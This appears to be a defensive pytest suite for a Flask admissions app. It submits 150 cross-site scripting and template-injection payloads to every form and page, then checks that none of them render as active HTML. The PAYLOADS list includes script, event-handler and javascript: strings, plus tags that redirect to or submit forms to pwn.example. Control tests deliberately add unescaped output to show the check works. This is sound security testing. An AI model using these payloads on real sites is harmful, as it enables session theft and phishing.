"""A hundred and fifty texts that would run (TRUST T10), typed wherever text is: read back, each is a text and nothing else."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from html import unescape
from html.parser import HTMLParser
from itertools import product
from typing import Any

import pytest
from flask import Flask, Response
from flask.testing import FlaskClient

from intake import post
from intake.cases import take_step
from intake.models.dossiers import Case, read_case
from intake.models.letters import Letter
from tests.cases.test_admission import arrived
from tests.cast import Cast, writing
from tests.conftest import Browse
from tests.page import read
from workflows.admission import admission

pytestmark = pytest.mark.heavy

BEFORE = ("", "\">", "'>", "</textarea>", "</title>", "-->", "</script>", "</select><p ", "\" ", "{{7919*7919}}${7919*7919}")
"""Ways out of where a text stands."""
THEN = (
    "<script>pwn()</script>", "<img src=x onerror=pwn()>", "<svg/onload=pwn()>", "<iframe srcdoc='<script>pwn()</script>'>",
    "<a href=javascript:pwn()>x</a>", "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>", "<base href=//pwn.example>",
    "<meta http-equiv=refresh content=0;url=//pwn.example>", "<link rel=stylesheet href=//pwn.example>",
    "<style>@import'//pwn'</style>",
    "<form action=//pwn.example><button>x", "<p hx-on:click=pwn() hx-get=//pwn.example>", "onmouseover=pwn() style=pwn:1 x=",
    "<object data=javascript:pwn()>")
PAYLOADS = [before + then for before, then in product(BEFORE, THEN)]
STYLED = re.compile(r' style="[\w\s.,:;/#%\'-]+"')
"""Letters bear their look in attributes: mail programs read no sheet."""
TOGETHER = 10
"""As many in one box: a page is read for all of them at once."""


class Active(HTMLParser):
    """What of a page would run, or leads away."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(html)
        if "62710561" in html:
            self.found.append("a template was run")

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """An element opens."""
        has = {name: (value or "").strip() for name, value in attributes}
        leads = [has.get(name, "") for name in ("href", "src", "action", "formaction", "data", "hx-get", "hx-post", "srcdoc")]
        runs = (
            "pwn" in tag or any(name.startswith(("on", "hx-on")) or name == "style" or "pwn" in name for name in has),
            any(re.match(r"(?i)\s*(javascript:|data:|vbscript:|(https?:)?[/\\]{2}pwn|<)", one) for one in leads),
            tag in ("iframe", "object", "embed", "base", "style") or has.get("http-equiv", "").lower() == "refresh",
            tag == "script" and not has.get("src", "").startswith("/static/"))
        if any(runs):
            self.found.append(self.get_starttag_text() or tag)


@pytest.fixture
def case(people: Cast) -> Case:
    """Ana's application is open."""
    with writing():
        found = arrived(people.ana)
        take_step(found, "skip_meeting", by=people.claire, raw={"reason": "Reçue hier"}, key=None)
        return read_case(found.id)


def typed_everywhere(payload: str, ana: FlaskClient, claire: FlaskClient, nobody: FlaskClient, case: Case) -> Iterator[str]:
    """Fill in every text of these forms with it; the pages that answer, and those that show it afterwards."""
    dossier, of_case = f"/dossier/{case.dossier.uid}", f"/dossier/{case.dossier.uid}/{case.uid}"
    pages = [f"/demande/{case.uid}/{page.name}" for page in admission.pages["application"]]
    for client, address in ((nobody, "/commencer"), (claire, f"{of_case}/note"), (claire, f"{of_case}/write"),
                            (claire, f"{of_case}/assign"), (ana, f"{of_case}/write"), (claire, "/journees/nouvelle"),
                            (claire, "/reunions/nouvelle"), *((ana, one) for one in pages)):
        opened = client.get(address)
        forms = [form for form in read(opened).forms if form.method == "post" and form.action != "/langue"]
        for form in forms[:1] if opened.status_code == 200 else ():
            values: dict[str, Any] = {name: form.values.getlist(name) or payload for name in form.names}
            yield client.post(form.action or address, data={**values, **{
                name: payload for name, value in values.items() if value in ([""], payload)}}).text
    yield nobody.get("/commencer", query_string={"suite": payload, "first_name": payload}).text
    yield claire.get("/candidatures", query_string={"q": payload, "etape": payload}).text
    yield ana.get(f"{of_case}/write", query_string={"message": payload, "subject": payload}).text
    for client, address in ((claire, "/candidatures"), (claire, "/ce-qui-m-attend"), (claire, dossier),
                            (claire, f"{dossier}/historique"), (claire, f"{dossier}/echanges"),
                            (ana, "/mon-parcours"), (ana, f"/demande/{case.uid}/verifier"), *((ana, one) for one in pages)):
        yield client.get(address).text
    with claire.application.app_context(), writing():
        for letter in Letter.select().order_by(Letter.id.desc()).limit(3):
            html = post.compose(letter).get_body(("html",))
            yield STYLED.sub("", html.get_content()) if html is not None else ""


def active(payloads: list[str], people: Cast, browse: Browse, case: Case) -> tuple[list[str], int]:
    """(what would run, how many pages showed the text as a text)."""
    ana, claire, nobody = browse(people.ana), browse(people.claire), browse()
    found, shown = [], 0
    for payload in payloads:
        for html in typed_everywhere(payload, ana, claire, nobody, case):
            shown += payload.split()[0] in unescape(html)
            found += [f"{payload}: {one}" for one in Active(html).found]
    return found, shown


@pytest.mark.trust("T10")
def test_no_text_is_run(app: Flask, people: Cast, browse: Browse, case: Case) -> None:
    assert len(set(PAYLOADS)) == 150
    together = [" ".join(PAYLOADS[first:first + TOGETHER]) for first in range(0, len(PAYLOADS), TOGETHER)]
    found, shown = active(together, people, browse, case)
    assert found == []
    assert shown > 5 * len(together), "each is shown again, as it was typed"


def one_unescaped_field(answer: Response) -> Response:
    """What is typed in a box comes back as it was typed."""
    if answer.mimetype == "text/html":
        answer.set_data(re.sub(r"(<textarea[^>]*>)(.*?)(</textarea>)", lambda box: box[1] + unescape(box[2]) + box[3],
                               answer.get_data(as_text=True), flags=re.DOTALL))
    return answer


def one_inline_handler(answer: Response) -> Response:
    """A button that says itself what it does."""
    if answer.mimetype == "text/html":
        answer.set_data(answer.get_data(as_text=True).replace("<button ", "<button onclick=\"go()\" ", 1))
    return answer


@pytest.mark.control("T10")
@pytest.mark.parametrize("careless", [one_unescaped_field, one_inline_handler], ids=lambda one: one.__name__)
def test_control_a_careless_page_is_seen(app: Flask, people: Cast, browse: Browse, case: Case,
                                         careless: Callable[[Response], Response]) -> None:
    app.after_request_funcs.setdefault(None, []).append(careless)
    assert active([PAYLOADS[45]], people, browse, case)[0] != []
